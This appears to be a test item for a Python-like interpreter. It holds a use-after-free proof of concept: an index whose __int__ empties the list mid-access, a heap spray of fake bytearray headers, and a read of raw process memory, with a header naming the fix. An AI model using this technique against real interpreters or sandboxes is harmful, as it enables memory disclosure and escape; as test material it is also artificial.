# Tries: a board program with indices whose __int__() empties the list that they are for: what lies behind the list would be read as an item.
# Ends: an index is converted to a number before the length of its list is read.
### ATTACK
import gc
import struct

kept, seen, ours = [], [], []


def view(address, size):
    """An array as it lies in memory (type, kind, length, address), and where these words lie."""
    words = bytearray(struct.pack("<IIII", id(bytearray), 1, size, address))
    ours.append(words)
    return id(words) + 16


false = struct.pack("<I", view(0x08048000, 64))


def fill(*sizes):
    gc.collect()
    kept.append([bytearray(false * size) for size in sizes for _ in range(20)])
    del kept[:-3]


def look(one):
    if type(one) is bytearray:
        seen.append(bytes(one[:64]))


class Index:
    def __int__(self):
        values.clear()
        fill(4, 8)
        return 5


def store():
    values[Index()] = 7


def cut():
    del values[Index() :]


for use in (
    lambda: values[Index()],
    lambda: values[Index() :],
    lambda: values.pop(Index()),
    store,
    cut,
):
    values = [None] * 64
    try:
        found = use()
        for one in found if type(found) is list else (found,):
            look(one)
    except IndexError:
        pass
if seen:
    print("reads the process", seen[0])
kept = seen = values = None
### END
### BASE
